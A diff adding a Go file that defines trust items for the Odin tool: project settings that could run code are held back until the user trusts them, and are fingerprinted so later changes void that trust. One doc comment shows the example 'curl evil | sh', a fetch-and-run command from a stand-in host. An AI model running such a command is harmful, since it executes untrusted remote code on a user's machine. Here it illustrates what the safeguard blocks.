@@ -1,0 +1,83 @@
+package config
+
+import (
+	"crypto/sha256"
+	"encoding/hex"
+	"encoding/json"
+	"fmt"
+	"slices"
+	"strings"
+)
+
+// TrustItem is one project-supplied setting that Odin ignores until the
+// user runs `odin trust`: a key of the project's odin.yaml (see widening
+// for the rule), or a project file that would run code, change a mode or
+// replace a built-in agent (.odin/agents/review.md, a command file's mode,
+// ODIN.md's Commands section). Other packages build items for the files
+// they load; the trust store fingerprints all of them together.
+type TrustItem struct {
+	// Key names the setting: a dotted config key ("quality.test"), or a
+	// file and what in it ("ODIN.md ## Commands test").
+	Key string
+	// Value is what the project sets, as the user should read it: JSON for
+	// config values, the text for commands; "" when the file itself is
+	// the value (Note then says what it does).
+	Value string
+	// Note says why the setting needs trust when its key does not tell
+	// ("replaces the built-in review agent").
+	Note string
+
+	parts []string // the path of a config key in the project tree
+}
+
+// NewTrustItem returns an item for a project file's setting.
+func NewTrustItem(key, value, note string) TrustItem {
+	return TrustItem{Key: key, Value: value, Note: note}
+}
+
+func newTrustItem(parts []string, value any, note string) TrustItem {
+	return TrustItem{Key: strings.Join(parts, "."), Value: renderValue(value), Note: note, parts: slices.Clone(parts)}
+}
+
+// String is the item as `odin trust` and the untrusted notice show it:
+// `quality.test = "curl evil | sh"`, `.odin/agents/review.md (replaces the
+// built-in review agent)`.
+func (t TrustItem) String() string {
+	s := t.Key
+	if t.Value != "" {
+		s += " = " + t.Value
+	}
+	if t.Note != "" {
+		s += " (" + t.Note + ")"
+	}
+	return s
+}
+
+// renderValue shows a raw config value as compact JSON, with map keys
+// sorted, so that the user reads exactly what would apply.
+func renderValue(v any) string {
+	b, err := json.Marshal(v)
+	if err != nil {
+		return fmt.Sprint(v)
+	}
+	return string(b)
+}
+
+// TrustFingerprint hashes items (keys, values and notes, in key order) so
+// that a trust decision recorded against it is void once the project
+// changes any of them; "" when there are none.
+func TrustFingerprint(items []TrustItem) string {
+	if len(items) == 0 {
+		return ""
+	}
+	sorted := slices.Clone(items)
+	slices.SortStableFunc(sorted, func(a, b TrustItem) int { return strings.Compare(a.Key, b.Key) })
+	h := sha256.New()
+	for _, it := range sorted {
+		// Length-prefixed fields: no two different lists hash alike.
+		for _, f := range []string{it.Key, it.Value, it.Note} {
+			fmt.Fprintf(h, "%d:%s", len(f), f)
+		}
+	}
+	return hex.EncodeToString(h.Sum(nil))
+}
